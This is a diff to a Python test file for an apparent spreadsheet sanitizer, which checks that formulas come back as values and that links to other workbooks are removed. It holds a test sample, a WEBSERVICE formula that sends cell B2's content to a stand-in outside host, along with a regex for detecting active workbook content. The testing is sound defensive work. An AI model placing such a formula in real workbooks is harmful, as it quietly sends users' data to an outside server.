@@ -13,7 +13,7 @@ from openpyxl.worksheet.datavalidation import DataValidation
 from openpyxl.worksheet.worksheet import Worksheet
 
 from tests.adapters.workbook.packages import HEADER, PEOPLE, inline, inline_rows, parts, row, sheet, unzipped, zipped
-from tests.adapters.workbook.results import result_of, sheets_of
+from tests.adapters.workbook.results import SUMMARY, result_of, said_in, sheets_of
 
 _FETCH = 'WEBSERVICE("https://contoso.example/?"&B2)'
 
@@ -35,7 +35,8 @@ def _acts(data: bytes) -> list[str]:
     return [
         name
         for name, content in found.items()
-        if re.search(rb"<f[ />]|WEBSERVICE|calculatedColumnFormula|\[1\]|connection", content)
+        if re.search(rb"WEBSERVICE|calculatedColumnFormula|\[1\]|connection", content)
+        or (re.search(rb"<f[ />]", content) and "/charts/" not in name)  # there it names the cells that are shown
         or "external" in name.lower()
         or "pivot" in name.lower()
         or (name.endswith(".rels") and b"External" in content)
@@ -50,8 +51,8 @@ def test_formulas_come_back_as_values(full_rows: int) -> None:
     assert [] == _acts(result)
     pages = sheets_of(result)
     assert "seen" == pages["People"]["D2"].value
-    summary = " ".join(str(cell.value) for line in pages["Phone methods summary"].iter_rows() for cell in line)
-    assert ("Formulas are replaced by the values" in summary) or ("contains only values" in summary)
+    summary = said_in(pages[SUMMARY])
+    assert ("Formulas are replaced by the values" in summary) or ("holds only values" in summary)
     if full_rows:
         assert ("kept", None) == (pages["Other"]["A1"].value, pages["Other"]["B1"].value)
 
@@ -75,9 +76,7 @@ def test_links_to_other_workbooks_do_not_come_back() -> None:
     result = result_of(zipped(made))
 
     assert [] == _acts(result)
-    summary = " ".join(
-        str(cell.value) for line in sheets_of(result)["Phone methods summary"].iter_rows() for cell in line
-    )
+    summary = said_in(sheets_of(result)[SUMMARY])
     assert "links to other workbooks" in summary
 
 
